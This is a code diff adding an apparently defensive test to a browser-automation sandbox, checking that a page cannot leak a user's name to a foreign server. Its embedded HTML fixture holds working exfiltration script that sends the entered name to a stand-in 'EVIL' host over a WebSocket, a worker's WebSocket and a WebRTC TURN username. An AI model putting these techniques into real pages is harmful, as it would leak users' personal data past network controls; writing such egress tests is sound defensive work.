@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import threading
+import time
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -118,3 +119,196 @@ def test_open_of_a_foreign_url_is_refused_by_lint_and_at_run_time(tmp_path: Path
     assert "http://127.0.0.1:9 is not an origin of system hrss" in out.message
     assert PERSON["name"] not in out.message
     assert any(isinstance(e, ev.Blocked) and e.origin == "http://127.0.0.1:9" for e in seen)
+
+
+# --- WebSockets, workers and WebRTC: channels that Playwright's request routing does not see ---------------
+
+WS_MAGIC = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
+
+
+class _Collector:
+    """A foreign server that records every TCP connection made to it (and completes WebSocket handshakes)."""
+
+    def __init__(self) -> None:
+        import socket
+
+        self.conns: list[bytes] = []
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                c, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._serve, args=(c,), daemon=True).start()
+
+    def _serve(self, c: Any) -> None:
+        c.settimeout(3)
+        try:
+            head = c.recv(4096)
+            self.conns.append(head[:80])
+            if b"Sec-WebSocket-Key" in head:
+                c.sendall(_ws_accept(_ws_key(head)))
+                c.recv(4096)  # whatever the page sends
+        except OSError:
+            pass
+        finally:
+            c.close()
+
+
+def _ws_key(head: bytes) -> bytes:
+    return next(ln.split(b":", 1)[1].strip() for ln in head.split(b"\r\n") if ln.lower().startswith(b"sec-websocket-key"))
+
+
+def _ws_accept(key: bytes) -> bytes:
+    import base64
+    import hashlib
+
+    acc = base64.b64encode(hashlib.sha1(key + WS_MAGIC.encode()).digest())
+    return b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: " + acc + b"\r\n\r\n"
+
+
+def _ws_frame(payload: bytes) -> bytes:
+    assert len(payload) < 126
+    return bytes([0x81, len(payload)]) + payload
+
+
+def _ws_read_text(conn: Any) -> bytes:
+    _, b1 = conn.recv(2)
+    n = b1 & 0x7F
+    mask = conn.recv(4)
+    data = b""
+    while len(data) < n:
+        data += conn.recv(n - len(data))
+    return bytes(x ^ mask[i % 4] for i, x in enumerate(data))
+
+
+WS_PAGE = """<!doctype html><html><head><meta charset=utf-8><title>综合受理</title></head><body>
+<label for=n>姓名</label><input id=n>
+<button type=button onclick="leakPage()">页面连接</button>
+<button type=button onclick="leakWorker()">后台连接</button>
+<button type=button onclick="leakRtc()">通话</button>
+<p id=own>连接中</p><p id=page></p><p id=worker></p><p id=rtc></p>
+<script>
+ const EVIL = '127.0.0.1:__EVIL__', FAR = '127.0.0.1:__FAR__';
+ const own = new WebSocket('ws://' + location.host + '/ws');
+ own.onopen = () => own.send('你好');
+ own.onmessage = m => document.getElementById('own').textContent = '本系统回声：' + m.data;
+ const say = (id, t) => document.getElementById(id).textContent = t;
+ function leakPage() {
+   const ws = new WebSocket('ws://' + EVIL + '/leak?name=' + encodeURIComponent(n.value));
+   ws.onopen = () => ws.send(n.value);
+   ws.onclose = () => say('page', '页面连接已结束');
+ }
+ function leakWorker() {
+   const src = "const ws = new WebSocket('ws://" + FAR + "/leak-worker?name=' + encodeURIComponent(NAME));"
+             + "ws.onopen = () => { ws.send(NAME); postMessage('open'); }; ws.onclose = () => postMessage('closed');";
+   const w = new Worker(URL.createObjectURL(new Blob(['const NAME = ' + JSON.stringify(n.value) + ';' + src])));
+   w.onmessage = m => say('worker', '后台连接已结束' + (m.data === 'open' ? '（已连通）' : ''));
+ }
+ function leakRtc() {
+   const pc = new RTCPeerConnection({iceServers: [{urls: 'turn:' + FAR + '?transport=tcp',
+                                                   username: n.value, credential: 'x'}], iceTransportPolicy: 'relay'});
+   pc.createDataChannel('d');
+   pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') say('rtc', '通话候选已收集'); };
+   pc.createOffer().then(o => pc.setLocalDescription(o));
+   setTimeout(() => say('rtc', '通话候选已收集'), 4000);
+ }
+</script></body></html>"""
+
+
+class _OwnWithSocket:
+    """The system's own server: the page above, and a WebSocket echo at /ws (so own WebSockets must keep working)."""
+
+    def __init__(self, evil_port: int, far_port: int) -> None:
+        page = WS_PAGE.replace("__EVIL__", str(evil_port)).replace("__FAR__", str(far_port)).encode()
+
+        class H(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                if self.headers.get("Upgrade", "").lower() == "websocket":
+                    self.wfile.write(_ws_accept(self.headers["Sec-WebSocket-Key"].encode()))
+                    self.wfile.flush()
+                    got = _ws_read_text(self.connection)
+                    self.wfile.write(_ws_frame(got))
+                    self.wfile.flush()
+                    self.close_connection = True
+                    return
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Length", str(len(page)))
+                self.end_headers()
+                self.wfile.write(page)
+
+            def log_message(self, *a: Any) -> None:
+                pass
+
+        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), H)
+        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
+        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
+
+
+WS_RECIPE = """recipe: local.sockets
+title: 连接测试
+system: local
+steps:
+  - open: /
+  - expect: {text: 本系统回声：你好, message: 本系统的 WebSocket 应能正常使用}
+  - fill: {label: 姓名, value: "{{ person.name }}"}
+  - click: {text: 页面连接}
+  - wait: {text: 页面连接已结束}
+  - click: {text: 后台连接}
+  - wait: {text: 后台连接已结束}
+  - click: {text: 通话}
+  - wait: {text: 通话候选已收集}
+  - expect: {window: 综合受理}
+"""
+
+
+def test_websockets_workers_and_webrtc_cannot_reach_a_foreign_server(tmp_path: Path, desk: Any) -> None:
+    """A page on an allowed origin tries a WebSocket, a worker's WebSocket and a WebRTC TURN server elsewhere:
+    the foreign servers get no connection at all, the run reports the attempts (origin or host:port only),
+    and the system's own WebSocket still works."""
+    from clerks import SandboxClerk
+
+    from clerkdesk.drivers.web import PlaywrightDriver
+    from clerkdesk.engine import events as ev
+    from clerkdesk.engine.plan import Target, plan_case
+    from clerkdesk.engine.run import Runner
+    from clerkdesk.recipe.loader import load_recipe
+    from clerkdesk.recipe.systems import load_system
+
+    evil, far = _Collector(), _Collector()  # far: reached only from a worker or WebRTC
+    own = _OwnWithSocket(evil.port, far.port)
+    try:
+        folder = tmp_path / "recipes"
+        (folder / "systems").mkdir(parents=True)
+        (folder / "systems" / "local.yaml").write_text(
+            f"system: local\ntitle: 本地测试系统\nkind: web\nstart_url: {own.url}/\n", encoding="utf-8")
+        (folder / "local").mkdir()
+        (folder / "local" / "sockets.yaml").write_text(WS_RECIPE, encoding="utf-8")
+        system = load_system(folder / "systems" / "local.yaml")
+        recipe = load_recipe(folder / "local" / "sockets.yaml", {"local": system})
+        context = {"person": {"name": "王小明"}, "case": {}}
+        plan_case([recipe], {"local": system}, context)
+        cid = desk.store.cases.create(matter="t", applicant_kind="person", applicant_key="k", record={},
+                                      targets=[], fields={}, profile_id=None)
+        rid = desk.store.runs.create(cid, recipe.id, "local")
+        seen: list[Any] = []
+        runner = Runner(desk.store.runs, SandboxClerk(), lambda t: PlaywrightDriver(), home=desk.home,
+                        clerk_name="t", on_event=seen.append)
+        out = runner.run(rid, Target(recipe, system), context)
+        assert out.status == "succeeded", out.message
+        time.sleep(0.3)  # this test proves a negative: give a leaked connection time to arrive
+        assert evil.conns == [] and far.conns == []
+        blocked = {e.origin for e in seen if isinstance(e, ev.Blocked)}
+        # the page's WebSocket is stopped by the WebSocket route; the worker's and WebRTC's by the egress proxy
+        assert blocked == {f"ws://127.0.0.1:{evil.port}", f"127.0.0.1:{far.port}"}
+        logged = [e for e in desk.store.runs.events(rid) if e["status"] == "blocked"]
+        assert logged and all("王小明" not in str(e) for e in logged)
+    finally:
+        own.httpd.shutdown()
+        evil.sock.close()
+        far.sock.close()
